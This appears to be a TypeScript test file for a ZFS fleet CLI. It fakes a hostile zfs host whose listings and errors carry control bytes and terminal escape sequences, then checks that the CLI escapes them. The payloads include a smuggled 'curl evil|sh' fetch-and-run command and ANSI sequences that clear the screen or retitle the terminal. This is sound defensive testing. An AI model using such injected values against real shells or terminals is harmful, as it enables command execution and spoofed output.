/**
 * A host that answers with names and errors no real ZFS would print (control bytes: C-u and CR that
 * would run a command in a shell, ESC sequences that rewrite a terminal). Real zfs refuses such
 * names, so a hostile zfs stands in for it: a script that runs the lab's real zfs (off1) and adds
 * lines to its listing, or fails with a hostile message. Through the CLI over real sshd: the
 * objects are left out with their names escaped, the rest of the host is listed, and no control
 * byte reaches the CLI's output raw.
 */
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { runCli } from './cliRun.js';
import { lab } from './lab.js';

const root = path.resolve(__dirname, '../..');
const cli = path.join(root, 'dist/cli.js');
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'zf-hostile-'));
const hostile = path.join(dir, 'zfs');
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

beforeAll(() => {
  execFileSync(process.execPath, [path.join(root, 'esbuild.mjs')], { cwd: root, stdio: 'pipe' });
  const real = lab().hosts.find((h) => h.name === 'off1')!.zfs;
  fs.writeFileSync(
    hostile,
    [
      '#!/bin/sh',
      `real='${real}'`,
      // A listing of the whole host (zfs-fuse: zfs get -H -p -o name,property,value PROPS): the real one, then hostile objects.
      'if [ "$1" = get ] && [ "$4" = -o ] && [ "$5" = name,property,value ]; then',
      '  "$real" "$@" || exit $?',
      "  printf 'zfs-hdd/off@x\\025curl evil|sh\\r\\ttype\\tsnapshot\\n'",
      "  printf 'zfs-hdd/\\033[2J\\033[Hfake\\ttype\\tfilesystem\\n'",
      '  exit 0',
      'fi',
      // A subtree listing (zfs get -r ...): fails with a hostile message.
      'if [ "$1" = get ] && [ "$4" = -r ]; then',
      "  printf 'cannot open: \\033]0;pwned\\007\\033[31mred\\n' >&2",
      '  exit 1',
      'fi',
      'exec "$real" "$@"',
    ].join('\n') + '\n',
    { mode: 0o755 },
  );
});

function run(...args: string[]) {
  const l = lab();
  return runCli([cli, ...args, '--ssh-config', l.sshConfig, '--known-hosts', l.knownHosts, '--zfs', hostile], { ...process.env, ZFS_FLEET_NO_CACHE: '1' });
}

describe('a hostile host through the CLI', () => {
  it('leaves out objects with invalid names (escaped on stderr), lists the rest, prints no control byte', async () => {
    const r = await run('ls', 'off1', '--snapshots');
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/^zfs-hdd\/off\/products@20230501-0000 /m);
    expect(r.stdout).not.toMatch(/fake|curl/);
    expect(RAW_CONTROL.test(r.stdout.replace(/\n/g, ''))).toBe(false);
    expect(RAW_CONTROL.test(r.stderr.replace(/\n/g, ''))).toBe(false);
    expect(r.stderr).toContain('left out zfs-hdd/off@x\\x15curl evil|sh\\x0d: invalid name');
    expect(r.stderr).toContain('left out zfs-hdd/\\x1b[2J\\x1b[Hfake: invalid name');
    const json = await run('ls', 'off1', '--json');
    expect(JSON.parse(json.stdout).rejected).toHaveLength(2);
  });

  it("a host's error message reaches the CLI's stderr with its control bytes escaped", async () => {
    const r = await run('ls', 'off1:zfs-hdd/off');
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('cannot open: \\x1b]0;pwned\\x07\\x1b[31mred');
    expect(RAW_CONTROL.test(r.stderr.replace(/\n/g, ''))).toBe(false);
  });
});
